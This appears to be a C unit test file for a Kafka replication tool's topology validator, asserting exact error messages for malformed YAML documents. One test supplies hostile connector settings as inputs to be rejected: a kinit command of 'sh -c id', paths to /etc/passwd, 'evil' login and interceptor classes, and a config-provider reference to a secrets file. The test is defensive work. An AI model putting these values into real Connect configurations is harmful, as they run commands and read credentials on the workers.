/*
 * pkg/validate: one bad document per rule, each diagnostic asserted exactly
 * as `kdr validate` prints it (file:line:col, field, message); a realistic
 * valid topology yields nothing; several problems are all reported.
 * Loops are in test_validate_loops.c, topic rules (tiering, placement,
 * conflicts) in test_validate_topics.c.
 */
#include "validate_helpers.h"

#include "resolve/resolve.h"
#include "util/alloc.h"
#include "validate/validate_internal.h"

/* --- a valid topology --- */

/*
 * Two DCs replicating active-active with the default policy (each flow
 * excluding the other side's remote topics), a stretch cluster over three
 * DCs, tiering, a static assignment, secrets by reference.
 */
static const char valid_topology[] =
	DOC "kind: KafkaCluster\n"
	"metadata: {name: dc-east}\n"
	"spec:\n"
	"  bootstrapServers: east-broker1:9092, east-broker2:9092\n"
	"  clientConfig:\n"
	"    security.protocol: SASL_SSL\n"
	"    sasl.mechanism: SCRAM-SHA-512\n"
	"    sasl.username: kdr\n"
	"    sasl.password: {valueFrom: {env: KDR_EAST_PASSWORD}}\n"
	"    ssl.ca.location: {valueFrom: {env: KDR_EAST_CA_PATH}}\n"
	"  connect:\n"
	"    url: https://connect-east:8083\n"
	"    auth: {bearerToken: {valueFrom: {file: /etc/kdr/connect-token}}}\n"
	DOC "kind: KafkaCluster\n"
	"metadata: {name: dc-west}\n"
	"spec:\n"
	"  bootstrapServers: west-broker1:9092,[fd00::12]:9092\n"
	"  clientConfig: {security.protocol: SSL}\n"
	"  connect:\n"
	"    url: http://connect-west:8083\n"
	"    auth: {basic: {username: kdr, password: {valueFrom: {env: KDR_WEST_CONNECT_PASSWORD}}}}\n"
	DOC "kind: KafkaCluster\n"
	"metadata: {name: stretch}\n"
	"spec:\n"
	"  bootstrapServers: s1:9092,s2:9092,s3:9092\n"
	"  datacenters:\n"
	"    dc-a: [a-1, a-2]\n"
	"    dc-b: [b-1, b-2]\n"
	"    dc-c: [c-1]\n"
	DOC "kind: ReplicationFlow\n"
	"metadata: {name: east-to-west}\n"
	"spec:\n"
	"  source: dc-east\n"
	"  target: dc-west\n"
	"  topics: [\"orders\", \"payments\\\\..*\"]\n"
	"  topicsExclude: [\"dc-west\\\\..*\"]\n"
	"  groups: [\".*\"]\n"
	"  groupsExclude: [\"console-consumer-.*\"]\n"
	"  replicationFactor: 3\n"
	"  tasksMax: 4\n"
	"  checkpoints: {enabled: true, intervalSeconds: 60, syncGroupOffsets: true, "
	"syncGroupOffsetsIntervalSeconds: 30}\n"
	"  heartbeats: {enabled: true, intervalSeconds: 5}\n"
	"  connectorConfig:\n"
	"    refresh.topics.interval.seconds: \"60\"\n"
	"    source.consumer.fetch.min.bytes: \"65536\"\n"
	DOC "kind: ReplicationFlow\n"
	"metadata: {name: west-to-east}\n"
	"spec:\n"
	"  source: dc-west\n"
	"  target: dc-east\n"
	"  topics: [\".*\"]\n"
	"  topicsExclude: [\"dc-east\\\\..*\"]\n"
	DOC "kind: TopicPolicy\n"
	"metadata: {name: core}\n"
	"spec:\n"
	"  clusters: [dc-east, dc-west]\n"
	"  topics:\n"
	"    - {name: orders, partitions: 12}\n"
	"    - name: payments.eu\n"
	"      config: {max.message.bytes: \"2097152\"}\n"
	"    - payments.us\n"
	"  partitions: 6\n"
	"  replicationFactor: 3\n"
	"  config: {min.insync.replicas: \"2\", cleanup.policy: delete}\n"
	"  tiering: {enabled: true, localRetention: 1d, retention: 30d}\n"
	DOC "kind: TopicPolicy\n"
	"metadata: {name: stretch-critical}\n"
	"spec:\n"
	"  clusters: [stretch]\n"
	"  topics: [ledger, audit]\n"
	"  replicationFactor: 3\n"
	"  config: {min.insync.replicas: \"2\"}\n"
	"  placement:\n"
	"    strategy: cross-dc\n"
	"    preferredLeaderDatacenter: dc-a\n"
	"    requireDcLossSurvival: true\n"
	DOC "kind: TopicPolicy\n"
	"metadata: {name: pinned}\n"
	"spec:\n"
	"  clusters: [stretch]\n"
	"  topics: [{name: control, partitions: 2, replicationFactor: 3}]\n"
	"  placement:\n"
	"    strategy: static\n"
	"    assignments: {control: [[1, 2, 3], [2, 3, 1]]}\n"
	DOC "kind: TopicPolicy\n"
	"metadata: {name: governed}\n"
	"spec:\n"
	"  clusters: [dc-east]\n"
	"  match: \"legacy-.*\"\n"
	"  config: {retention.ms: \"86400000\"}\n";

static void test_valid_topology_yields_no_diagnostics(void **state)
{
	(void)state;
	check_yaml(valid_topology, 0, "");
}

/* --- names --- */

static void test_names_must_be_dns_labels(void **state)
{
	(void)state;
	check_yaml(DOC "kind: KafkaCluster\n"
		   "metadata: {name: Dc_East}\n"
		   "spec: {bootstrapServers: \"b:9092\"}\n"
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: east-to-west-}\n"
		   "spec: {source: Dc_East, target: x}\n"
		   DOC "kind: TopicPolicy\n"
		   "metadata: {name: core.v1}\n"
		   "spec: {clusters: [Dc_East]}\n"
		   DOC "kind: TopicPolicy\n"
		   "metadata: {name: a123456789b123456789c123456789d123456789e123456789f123456789g1234}\n"
		   "spec: {clusters: [Dc_East]}\n",
		   KDR_EINVALID,
		   "t.yaml:4:18: error: metadata.name: 'Dc_East' is not a DNS-1123 label: it contains characters other "
		   "than lowercase letters, digits and '-' (use lowercase letters, digits and '-', starting and ending "
		   "with a letter or digit, at most 63 characters, e.g. 'dc-east')\n"
		   "t.yaml:9:18: error: metadata.name: 'east-to-west-' is not a DNS-1123 label: it starts or ends with "
		   "'-' (use lowercase letters, digits and '-', starting and ending with a letter or digit, at most 63 "
		   "characters, e.g. 'east-to-west')\n"
		   "t.yaml:14:18: error: metadata.name: 'core.v1' is not a DNS-1123 label: it contains characters "
		   "other "
		   "than lowercase letters, digits and '-' (use lowercase letters, digits and '-', starting and ending "
		   "with a letter or digit, at most 63 characters, e.g. 'core-v1')\n"
		   "t.yaml:19:18: error: metadata.name: "
		   "'a123456789b123456789c123456789d123456789e123456789f123456789g1234' is not a DNS-1123 label: it is "
		   "longer than 63 characters (use lowercase letters, digits and '-', starting and ending with a "
		   "letter "
		   "or digit, at most 63 characters, e.g. "
		   "'a123456789b123456789c123456789d123456789e123456789f123456789g12')\n"
		   "t.yaml:10:33: error: spec.target: cluster 'x' is not defined; defined clusters: 'Dc_East'");
}

static void test_duplicate_names_name_both_places(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS
		   DOC "kind: KafkaCluster\n"
		   "metadata: {name: dc-east}\n"
		   "spec: {bootstrapServers: \"other:9092\"}\n"
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec: {source: dc-east, target: dc-west}\n"
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec: {source: dc-east, target: dc-west, topics: [orders]}\n",
		   KDR_EINVALID,
		   "t.yaml:16:18: error: metadata.name: duplicate KafkaCluster 'dc-east': also defined at t.yaml:4:18; "
		   "names must be unique per kind\n"
		   "t.yaml:26:18: error: metadata.name: duplicate ReplicationFlow 'e2w': also defined at t.yaml:21:18; "
		   "names must be unique per kind");
}

static void test_topic_names_must_be_legal_for_kafka(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS
		   DOC "kind: TopicPolicy\n"
		   "metadata: {name: core}\n"
		   "spec:\n"
		   "  clusters: [dc-east]\n"
		   "  topics:\n"
		   "    - orders/eu\n"
		   "    - \".\"\n"
		   "    - \"..\"\n"
		   "    - \"\"\n"
		   "    - \"caf\\u00e9\"\n"
		   "    - orders\n"
		   "    - orders\n"
		   "    - x23456789012345678901234567890123456789012345678901234567890123456789012345678901234567890"
		   "123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890"
		   "1234567890123456789012345678901234567890123456789012345678901234567890\n",
		   KDR_EINVALID,
		   "t.yaml:20:7: error: spec.topics[0].name: topic name 'orders/eu' contains '/', which kafka does not "
		   "allow; use ASCII letters, digits, '.', '_' and '-'\n"
		   "t.yaml:21:7: error: spec.topics[1].name: topic name '.' is reserved by kafka; use ASCII letters, "
		   "digits, '.', '_' and '-'\n"
		   "t.yaml:22:7: error: spec.topics[2].name: topic name '..' is reserved by kafka; use ASCII letters, "
		   "digits, '.', '_' and '-'\n"
		   "t.yaml:23:7: error: spec.topics[3].name: empty topic name; kafka topic names have 1 to 249 "
		   "characters\n"
		   "t.yaml:24:7: error: spec.topics[4].name: topic name 'caf\xc3\xa9' contains byte 0xc3, which kafka "
		   "does not "
		   "allow; use ASCII letters, digits, '.', '_' and '-'\n"
		   "t.yaml:26:7: error: spec.topics[6].name: topic 'orders' is listed twice (first as spec.topics[5]); "
		   "list each topic once\n"
		   "t.yaml:27:7: error: spec.topics[7].name: topic name 'x2345678901234567890...' is 250 characters "
		   "long; kafka allows at most 249");
}

static void test_dot_underscore_collision_is_a_warning(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS
		   DOC "kind: TopicPolicy\n"
		   "metadata: {name: billing}\n"
		   "spec:\n"
		   "  clusters: [dc-east, dc-west]\n"
		   "  topics: [invoices.v1, refunds]\n"
		   DOC "kind: TopicPolicy\n"
		   "metadata: {name: legacy}\n"
		   "spec:\n"
		   "  clusters: [dc-west, dc-east]\n"
		   "  topics: [refunds, invoices_v1]\n",
		   0,
		   "t.yaml:26:21: warning: spec.topics[1].name: topic 'invoices_v1' collides with 'invoices.v1' "
		   "(t.yaml:19:12) on clusters 'dc-east', 'dc-west': kafka maps '.' and '_' to the same metric names "
		   "and refuses to create the second of the two");
}

/* --- references --- */

static void test_references_name_defined_clusters(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec: {source: dc-est, target: dc-north}\n"
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: loop}\n"
		   "spec: {source: dc-east, target: dc-east}\n"
		   DOC "kind: TopicPolicy\n"
		   "metadata: {name: core}\n"
		   "spec:\n"
		   "  clusters: [dc-east, dc-wset, dc-east]\n",
		   KDR_EINVALID,
		   "t.yaml:17:16: error: spec.source: cluster 'dc-est' is not defined (did you mean 'dc-east'?)\n"
		   "t.yaml:17:32: error: spec.target: cluster 'dc-north' is not defined; defined clusters: 'dc-east', "
		   "'dc-west'\n"
		   "t.yaml:22:33: error: spec.target: 'dc-east' is also the source; a flow replicates from one cluster "
		   "to another\n"
		   "t.yaml:28:23: error: spec.clusters[1]: cluster 'dc-wset' is not defined (did you mean 'dc-west'?)\n"
		   "t.yaml:28:32: error: spec.clusters[2]: cluster 'dc-east' is listed twice (first as "
		   "spec.clusters[0])");
}

/* --- regexes --- */

static void test_regexes_must_compile(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec:\n"
		   "  source: dc-east\n"
		   "  target: dc-west\n"
		   "  topics: [\"(orders\", \"events\"]\n"
		   "  topicsExclude: [\"[a-\"]\n"
		   "  groups: [\"*-group\"]\n"
		   "  groupsExclude: [\"a{2,1}\"]\n"
		   DOC "kind: TopicPolicy\n"
		   "metadata: {name: core}\n"
		   "spec: {clusters: [dc-east], match: \"pay(ments\"}\n",
		   KDR_EINVALID,
		   "t.yaml:20:12: error: spec.topics[0]: invalid regex '(orders': at offset 7: missing closing "
		   "parenthesis\n"
		   "t.yaml:21:19: error: spec.topicsExclude[0]: invalid regex '[a-': at offset 3: missing terminating "
		   "] "
		   "for character class\n"
		   "t.yaml:22:12: error: spec.groups[0]: invalid regex '*-group': at offset 0: quantifier does not "
		   "follow a repeatable item\n"
		   "t.yaml:23:19: error: spec.groupsExclude[0]: invalid regex 'a{2,1}': at offset 5: numbers out of "
		   "order in {} quantifier\n"
		   "t.yaml:28:36: error: spec.match: invalid regex 'pay(ments': at offset 9: missing closing "
		   "parenthesis");
}

/*
 * A loaded desired state carries its compiled regexes (pkg/resolve):
 * validation reports the failures recorded there instead of compiling the
 * patterns again (the reason below is one no compiler gives), and without an
 * attached state it resolves its own.
 */
static void test_regexes_are_reported_from_the_resolved_state(void **state)
{
	struct kdr_desired desired;
	struct kdr_diags diags = KDR_DIAGS_INIT;
	struct kdr_resolved *resolved = NULL;
	char *text = NULL;

	(void)state;
	memset(&desired, 0, sizeof(desired));
	parse_or_fail(&desired, "t.yaml",
		      TWO_CLUSTERS DOC "kind: ReplicationFlow\n"
				       "metadata: {name: e2w}\n"
				       "spec: {source: dc-east, target: dc-west, topics: [\"(orders\"]}\n");
	assert_int_equal(kdr_validate(&desired, &diags), KDR_EINVALID);
	text = format_diags(&diags);
	assert_string_equal(text, "t.yaml:17:51: error: spec.topics[0]: invalid regex '(orders': at offset 7: "
				  "missing closing parenthesis");
	free(text);
	kdr_diags_release(&diags);

	resolved = (struct kdr_resolved *)(uintptr_t)kdr_resolve_attach(&desired);
	assert_int_equal(resolved->filters.flows[0].n_failures, 1);
	free(resolved->filters.flows[0].failures[0].reason);
	resolved->filters.flows[0].failures[0].reason = kdr_strdup("as pkg/resolve recorded it");
	assert_int_equal(kdr_validate(&desired, &diags), KDR_EINVALID);
	text = format_diags(&diags);
	assert_string_equal(text, "t.yaml:17:51: error: spec.topics[0]: invalid regex '(orders': as pkg/resolve "
				  "recorded it");
	free(text);
	kdr_diags_release(&diags);
	kdr_desired_release(&desired);
}

static const char declared_on_east[] =
	DOC "kind: TopicPolicy\n"
	"metadata: {name: core}\n"
	"spec:\n"
	"  clusters: [dc-east, dc-west]\n"
	"  topics: [orders, payments.eu, payments.us]\n";

static void test_topic_regex_matching_no_declared_topic_is_a_warning(void **state)
{
	char *yaml = kdr_asprintf("%s%s%s", TWO_CLUSTERS, declared_on_east,
				  DOC "kind: ReplicationFlow\n"
				  "metadata: {name: e2w}\n"
				  "spec:\n"
				  "  source: dc-east\n"
				  "  target: dc-west\n"
				  "  topics: [ordrs, \"payments\\\\..*\", \"events\\\\..*\", orders, invoices]\n");

	(void)state;
	check_yaml(yaml, 0,
		   "t.yaml:27:12: warning: spec.topics[0]: 'ordrs' matches none of the 3 topics declared for source "
		   "cluster 'dc-east' (did you mean 'orders'?)\n"
		   "t.yaml:27:36: warning: spec.topics[2]: 'events\\..*' matches none of the 3 topics declared for "
		   "source cluster 'dc-east'\n"
		   "t.yaml:27:59: warning: spec.topics[4]: 'invoices' matches none of the 3 topics declared for source "
		   "cluster 'dc-east'");
	free(yaml);
}

static void test_topic_regex_warning_spares_patterns_when_a_policy_matches(void **state)
{
	char *yaml = kdr_asprintf("%s%s%s", TWO_CLUSTERS, declared_on_east,
				  DOC "kind: TopicPolicy\n"
				  "metadata: {name: events}\n"
				  "spec: {clusters: [dc-east], match: \"events\\\\..*\"}\n"
				  DOC "kind: ReplicationFlow\n"
				  "metadata: {name: e2w}\n"
				  "spec:\n"
				  "  source: dc-east\n"
				  "  target: dc-west\n"
				  "  topics: [\"events\\\\..*\", ordrs]\n");

	(void)state;
	/* A pattern may aim at topics `match` governs; a plain name that matches nothing is still suspect. */
	check_yaml(yaml, 0,
		   "t.yaml:32:27: warning: spec.topics[1]: 'ordrs' matches none of the 3 topics declared for source "
		   "cluster 'dc-east' (did you mean 'orders'?)");
	free(yaml);
}

static void test_topic_regex_warning_needs_declared_topics(void **state)
{
	(void)state;
	/* Nothing declared on the source: nothing to compare with, no warning. */
	check_yaml(TWO_CLUSTERS
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec: {source: dc-east, target: dc-west, topics: [ordrs]}\n",
		   0, "");
}

/* --- numbers --- */

static void test_numbers_must_be_in_range(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec:\n"
		   "  source: dc-east\n"
		   "  target: dc-west\n"
		   "  replicationPolicy: {separator: \"\"}\n"
		   "  replicationFactor: 0\n"
		   "  tasksMax: 0\n"
		   "  checkpoints: {intervalSeconds: 0, syncGroupOffsetsIntervalSeconds: -1}\n"
		   "  heartbeats: {intervalSeconds: 0}\n"
		   "  internalTopicsReplicationFactor: 0\n"
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: w2e}\n"
		   "spec:\n"
		   "  source: dc-west\n"
		   "  target: dc-east\n"
		   "  replicationPolicy: {separator: \"/\"}\n"
		   DOC "kind: TopicPolicy\n"
		   "metadata: {name: core}\n"
		   "spec:\n"
		   "  clusters: [dc-east]\n"
		   "  partitions: 0\n"
		   "  replicationFactor: 40000\n"
		   "  topics:\n"
		   "    - {name: orders, partitions: 0, replicationFactor: -1}\n"
		   "    - {name: events, partitions: 3000000000}\n",
		   KDR_EINVALID,
		   "t.yaml:21:22: error: spec.replicationFactor: found 0; must be at least 1\n"
		   "t.yaml:22:13: error: spec.tasksMax: found 0; must be at least 1\n"
		   "t.yaml:23:34: error: spec.checkpoints.intervalSeconds: found 0; must be at least 1\n"
		   "t.yaml:23:70: error: spec.checkpoints.syncGroupOffsetsIntervalSeconds: found -1; must be at least "
		   "1\n"
		   "t.yaml:24:33: error: spec.heartbeats.intervalSeconds: found 0; must be at least 1\n"
		   "t.yaml:25:36: error: spec.internalTopicsReplicationFactor: found 0; must be at least 1\n"
		   "t.yaml:20:34: error: spec.replicationPolicy.separator: empty; MM2 needs a separator between "
		   "cluster "
		   "alias and topic name (e.g. '.')\n"
		   "t.yaml:33:34: error: spec.replicationPolicy.separator: found '/'; it becomes part of remote topic "
		   "names, so use only characters legal in kafka topic names (letters, digits, '.', '_', '-')\n"
		   "t.yaml:40:15: error: spec.partitions: found 0; must be at least 1\n"
		   "t.yaml:41:22: error: spec.replicationFactor: found 40000; must be at most 32767 (a 16-bit number "
		   "in "
		   "kafka)\n"
		   "t.yaml:43:34: error: spec.topics[0].partitions: found 0; must be at least 1\n"
		   "t.yaml:43:56: error: spec.topics[0].replicationFactor: found -1; must be at least 1\n"
		   "t.yaml:44:34: error: spec.topics[1].partitions: found 3000000000; must be at most 2147483647 (a "
		   "32-bit number in kafka)");
}

/* spec.failedOver: the UTC time kdr failover --commit writes, nothing else. */
static void test_failed_over_is_a_utc_time(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec: {source: dc-east, target: dc-west, suspended: true, failedOver: \"2026-12-07T01:02:03Z\"}\n",
		   0, "");
	check_yaml(TWO_CLUSTERS
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec: {source: dc-east, target: dc-west, topics: [x], failedOver: \"yes\"}\n"
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: w2e}\n"
		   "spec: {source: dc-west, target: dc-east, topics: [y], failedOver: \"2026-13-07T01:02:03Z\"}\n",
		   KDR_EINVALID,
		   "t.yaml:17:67: error: spec.failedOver: found 'yes'; expected the UTC time the failover was "
		   "recorded, as kdr failover --commit writes it (e.g. \"2026-12-07T01:02:03Z\"); remove the field to "
		   "clear it\n"
		   "t.yaml:22:67: error: spec.failedOver: found '2026-13-07T01:02:03Z'; expected the UTC time the "
		   "failover was recorded, as kdr failover --commit writes it (e.g. \"2026-12-07T01:02:03Z\"); remove "
		   "the field to clear it");
}

/* --- connector config --- */

static void test_connector_config_may_not_override_rendered_keys(void **state)
{
	(void)state;
	check_yaml(DOC "kind: KafkaCluster\n"
		   "metadata: {name: dc-east}\n"
		   "spec:\n"
		   "  bootstrapServers: east-1:9092\n"
		   "  clientConfig: {security.protocol: SSL, ssl.ca.location: {valueFrom: {env: KDR_CA}}}\n"
		   DOC "kind: KafkaCluster\n"
		   "metadata: {name: dc-west}\n"
		   "spec:\n"
		   "  bootstrapServers: west-1:9092\n"
		   "  clientConfig:\n"
		   "    sasl.mechanism: PLAIN\n"
		   "    sasl.username: kdr\n"
		   "    sasl.password: {valueFrom: {env: KDR_WEST_PASSWORD}}\n"
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec:\n"
		   "  source: dc-east\n"
		   "  target: dc-west\n"
		   "  connectorConfig:\n"
		   "    tasks.max: \"8\"\n"
		   "    topics: \".*\"\n"
		   "    key.converter: org.apache.kafka.connect.json.JsonConverter\n"
		   "    source.cluster.bootstrap.servers: other:9092\n"
		   "    source.cluster.security.protocol: PLAINTEXT\n"
		   "    target.cluster.sasl.jaas.config: x\n"
		   "    target.cluster.ssl.truststore.location: /other.pem\n"
		   "    offset-syncs.topic.location: target\n"
		   "    topics.blacklist: \"x.*\"\n"
		   "    config.properties.blacklist: \"y.*\"\n"
		   "    refresh.topics.interval.seconds: \"60\"\n"
		   "    source.cluster.ssl.keystore.type: PKCS12\n",
		   KDR_EINVALID,
		   "t.yaml:35:34: warning: spec.connectorConfig.config.properties.blacklist: deprecated and ignored "
		   "since kafka 4.0; use config.properties.exclude\n"
		   "t.yaml:28:20: error: spec.connectorConfig.key.converter: set by kdr to "
		   "org.apache.kafka.connect.converters.ByteArrayConverter (MM2 copies raw bytes); remove it\n"
		   "t.yaml:33:34: error: spec.connectorConfig.offset-syncs.topic.location: kept by kdr at MM2's "
		   "default "
		   "'source': kdr expects the offset-syncs topic on the source cluster; remove it\n"
		   "t.yaml:29:39: error: spec.connectorConfig.source.cluster.bootstrap.servers: set by kdr from "
		   "spec.bootstrapServers of the source KafkaCluster; remove it\n"
		   "t.yaml:30:39: error: spec.connectorConfig.source.cluster.security.protocol: set by kdr from "
		   "spec.clientConfig.security.protocol of KafkaCluster 'dc-east'; remove it\n"
		   "t.yaml:37:39: error: spec.connectorConfig.source.cluster.ssl.keystore.type: not a connector "
		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
		   "connectorConfig); remove it\n"
		   "t.yaml:31:38: error: spec.connectorConfig.target.cluster.sasl.jaas.config: set by kdr from "
		   "spec.clientConfig.sasl.username and sasl.password of KafkaCluster 'dc-west'; remove it\n"
		   "t.yaml:32:45: error: spec.connectorConfig.target.cluster.ssl.truststore.location: set by kdr from "
		   "spec.clientConfig.ssl.ca.location of KafkaCluster 'dc-east'; remove it\n"
		   "t.yaml:26:16: error: spec.connectorConfig.tasks.max: set by kdr from spec.tasksMax; remove it\n"
		   "t.yaml:27:13: error: spec.connectorConfig.topics: set by kdr from spec.topics; remove it\n"
		   "t.yaml:34:23: error: spec.connectorConfig.topics.blacklist: deprecated alias of topics.exclude, "
		   "which kdr sets from spec.topicsExclude and spec.keepDefaultExcludes; remove it");
}

/*
 * issue 14 item 5: spec.connectorConfig goes into the connector configs the
 * Connect workers run; it is an allow list of MM2 and client tuning keys. A
 * document may not load a class, a login module or a config provider, run
 * kinit, read a worker's file or refer to one (${provider:...} values).
 */
static void test_connector_config_is_an_allow_list(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec:\n"
		   "  source: dc-east\n"
		   "  target: dc-west\n"
		   "  connectorConfig:\n"
		   "    config.providers: file\n"
		   "    config.providers.file.class: org.apache.kafka.common.config.provider.FileConfigProvider\n"
		   "    producer.override.sasl.jaas.config: \"com.sun.security.auth.module.JndiLoginModule required;\"\n"
		   "    consumer.override.sasl.login.class: evil.Login\n"
		   "    source.cluster.sasl.kerberos.kinit.cmd: \"sh -c id\"\n"
		   "    target.cluster.ssl.truststore.location: /etc/passwd\n"
		   "    source.cluster.sasl.oauthbearer.token.endpoint.url: file:///etc/passwd\n"
		   "    producer.interceptor.classes: evil.Interceptor\n"
		   "    transforms: x\n"
		   "    offset.lag.max: \"${file:/etc/kafka/secrets.properties:password}\"\n"
		   "    refresh.topics.interval.seconds: \"60\"\n"
		   "    producer.override.compression.type: zstd\n"
		   "    source.consumer.fetch.min.bytes: \"65536\"\n"
		   "    consumer.max.poll.records: \"500\"\n",
		   KDR_EINVALID,
		   "t.yaml:21:23: error: spec.connectorConfig.config.providers: not a connector property kdr passes to "
		   "Connect (allowed: MM2 tuning and client tuning keys; see the README's connectorConfig); remove it\n"
		   "t.yaml:22:34: error: spec.connectorConfig.config.providers.file.class: not a connector property kdr "
		   "passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's connectorConfig); "
		   "remove it\n"
		   "t.yaml:24:41: error: spec.connectorConfig.consumer.override.sasl.login.class: not a connector "
		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
		   "connectorConfig); remove it\n"
		   "t.yaml:30:21: error: spec.connectorConfig.offset.lag.max: a ${...} value is resolved by the Connect "
		   "worker's config providers (files, environment); write the value itself\n"
		   "t.yaml:28:35: error: spec.connectorConfig.producer.interceptor.classes: not a connector property kdr "
		   "passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's connectorConfig); "
		   "remove it\n"
		   "t.yaml:23:41: error: spec.connectorConfig.producer.override.sasl.jaas.config: not a connector "
		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
		   "connectorConfig); remove it\n"
		   "t.yaml:25:45: error: spec.connectorConfig.source.cluster.sasl.kerberos.kinit.cmd: not a connector "
		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
		   "connectorConfig); remove it\n"
		   "t.yaml:27:57: error: spec.connectorConfig.source.cluster.sasl.oauthbearer.token.endpoint.url: not a "
		   "connector property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the "
		   "README's connectorConfig); remove it\n"
		   "t.yaml:26:45: error: spec.connectorConfig.target.cluster.ssl.truststore.location: not a connector "
		   "property kdr passes to Connect (allowed: MM2 tuning and client tuning keys; see the README's "
		   "connectorConfig); remove it\n"
		   "t.yaml:29:17: error: spec.connectorConfig.transforms: not a connector property kdr passes to "
		   "Connect (allowed: MM2 tuning and client tuning keys; see the README's connectorConfig); remove it");
}

/*
 * issue 14 item 4: a topicsExclude entry that MM2 already excludes by default
 * (kept while keepDefaultExcludes is true) gets a note, a warning: it can go.
 */
static void test_exclude_already_a_default_exclude(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec:\n"
		   "  source: dc-east\n"
		   "  target: dc-west\n"
		   "  topicsExclude: [\"__.*\", \"__consumer_offsets\", \"orders\\\\.internal\", \"scratch.*\"]\n",
		   0,
		   "t.yaml:20:19: warning: spec.topicsExclude[0]: '__.*' is already one of MirrorMaker 2's default "
		   "excludes (kept while spec.keepDefaultExcludes is true); it can be removed\n"
		   "t.yaml:20:27: warning: spec.topicsExclude[1]: '__consumer_offsets' is already excluded by "
		   "MirrorMaker 2's default exclude '__.*' (kept while spec.keepDefaultExcludes is true); it can be "
		   "removed\n"
		   "t.yaml:20:49: warning: spec.topicsExclude[2]: 'orders\\.internal' is already excluded by "
		   "MirrorMaker 2's default exclude '.*[\\-\\.]internal' (kept while spec.keepDefaultExcludes is true); "
		   "it can be removed");
	/* Without MM2's defaults, the user's own exclude is what excludes them. */
	check_yaml(TWO_CLUSTERS DOC "kind: ReplicationFlow\n"
		   "metadata: {name: e2w}\n"
		   "spec:\n"
		   "  source: dc-east\n"
		   "  target: dc-west\n"
		   "  keepDefaultExcludes: false\n"
		   "  topicsExclude: [\"__.*\"]\n",
		   0, "");
}

static void test_rendered_keys_api(void **state)
{
	struct kdr_desired desired;
	const struct kdr_cluster *east = NULL, *west = NULL;

	(void)state;
	memset(&desired, 0, sizeof(desired));
	parse_or_fail(&desired, "t.yaml",
		      DOC "kind: KafkaCluster\n"
		      "metadata: {name: dc-east}\n"
		      "spec: {bootstrapServers: \"e:9092\", clientConfig: {sasl.mechanisms: PLAIN, client.rack: r1}}\n"
		      DOC "kind: KafkaCluster\n"
		      "metadata: {name: dc-west}\n"
		      "spec: {bootstrapServers: \"w:9092\", clientConfig: {sasl.username: u}}\n");
	east = kdr_desired_cluster(&desired, "dc-east");
	west = kdr_desired_cluster(&desired, "dc-west");
	/* Every key pkg/mm2 renders, whatever the flow. */
	static const char *const rendered[] = {
		"name", "connector.class", "tasks.max", "source.cluster.alias", "target.cluster.alias",
		"source.cluster.bootstrap.servers", "target.cluster.bootstrap.servers", "topics", "topics.exclude",
		"groups", "groups.exclude", "replication.policy.class", "replication.policy.separator",
		"replication.factor", "sync.topic.configs.enabled", "sync.topic.acls.enabled",
		"emit.checkpoints.enabled", "emit.checkpoints.interval.seconds", "sync.group.offsets.enabled",
		"sync.group.offsets.interval.seconds", "emit.heartbeats.enabled", "emit.heartbeats.interval.seconds",
		"checkpoints.topic.replication.factor", "heartbeats.topic.replication.factor",
		"offset-syncs.topic.replication.factor", "key.converter", "value.converter", "header.converter",
	};
	for (size_t i = 0; i < sizeof(rendered) / sizeof(rendered[0]); i++) {
		assert_true(kdr_validate_key_is_rendered(rendered[i]));
		assert_true(kdr_validate_flow_key_is_rendered(rendered[i], NULL, NULL));
	}
	assert_false(kdr_validate_key_is_rendered("refresh.topics.interval.seconds"));
	assert_false(kdr_validate_key_is_rendered("offset-syncs.topic.location")); /* kept at MM2's default */
	assert_false(kdr_validate_key_is_rendered("source.cluster.security.protocol"));
	assert_false(kdr_validate_key_is_rendered(NULL));
	/* Client properties depend on the clusters, under either prefix (heartbeats reverse the aliases). */
	assert_true(kdr_validate_flow_key_is_rendered("source.cluster.sasl.mechanism", east, west));
	assert_true(kdr_validate_flow_key_is_rendered("target.cluster.sasl.mechanism", east, west));
	assert_true(kdr_validate_flow_key_is_rendered("target.cluster.client.rack", east, west));
	assert_false(kdr_validate_flow_key_is_rendered("source.cluster.sasl.mechanism", NULL, west));
	/* sasl.jaas.config needs both username and password. */
	assert_false(kdr_validate_flow_key_is_rendered("source.cluster.sasl.jaas.config", east, west));
	assert_false(kdr_validate_flow_key_is_rendered("source.cluster.sasl.username", east, west));
	assert_false(kdr_validate_flow_key_is_rendered("source.consumer.sasl.mechanism", east, west));
	kdr_desired_release(&desired);
}

